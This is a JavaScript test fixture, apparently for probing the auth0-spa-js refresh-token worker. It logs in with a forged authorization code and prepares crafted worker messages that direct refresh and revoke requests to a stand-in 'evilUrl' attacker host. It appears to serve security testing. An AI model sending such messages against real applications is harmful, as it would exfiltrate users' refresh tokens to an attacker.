// auth0-spa-js in the setup that its documentation calls safest: refresh tokens in its worker, the
// rest in memory.
import { Auth0Client } from '@auth0/auth0-spa-js';

const { evilUrl, apiUrl, clientConfig } = window;
const body = 'client_id=app&grant_type=refresh_token';
const options = (more) => ({ method: 'POST', body, headers: { 'content-type': 'application/x-www-form-urlencoded' }, ...more });
const auth = { audience: 'default', scope: 'openid read offline_access' };
const ask = { type: 'refresh', timeout: 5_000, useFormData: true, auth };
/** Messages in the worker's own format. */
window.words = [
  { type: 'init', allowedBaseUrl: `${evilUrl}/evil` },
  { ...ask, fetchUrl: `${evilUrl}/oauth/token`, fetchOptions: options() },
  { ...ask, fetchUrl: `${evilUrl}/oauth/token`, fetchOptions: options(), skipTokenStorage: true },
  { ...ask, fetchUrl: `${evilUrl}/evil`, fetchOptions: options() },
  { ...ask, type: 'revoke', fetchUrl: `${evilUrl}/oauth/revoke`, fetchOptions: options() },
];
window.tricks = [];

window.enter = async () => {
  const client = new Auth0Client({
    domain: evilUrl,
    clientId: 'app',
    useRefreshTokens: true,
    cacheLocation: 'memory',
    workerUrl: window.vaultUrl,
    authorizationParams: { redirect_uri: clientConfig.redirect_uri, scope: 'openid read offline_access' },
  });
  let gone;
  await client.loginWithRedirect({ openUrl: (url) => void (gone = new URL(url)) });
  const { nonce, state } = Object.fromEntries(gone.searchParams);
  await client.handleRedirectCallback(`${clientConfig.redirect_uri}?${new URLSearchParams({ code: `THE-CODE.${nonce}`, state })}`);
  const fetcher = client.createFetcher();
  window.client = client;
  client.fetch = (...args) => fetcher.fetchWithAuth(...args);
  client.refresh = () => client.getTokenSilently({ cacheMode: 'off' });
  client.status = () => client.isAuthenticated();
  client.logOut = () => client.logout({ openUrl: false });
};
window.use = async () => {
  const { status } = await window.client.fetch(apiUrl);
  await window.client.refresh();
  await window.client.getUser();
  return status;
};
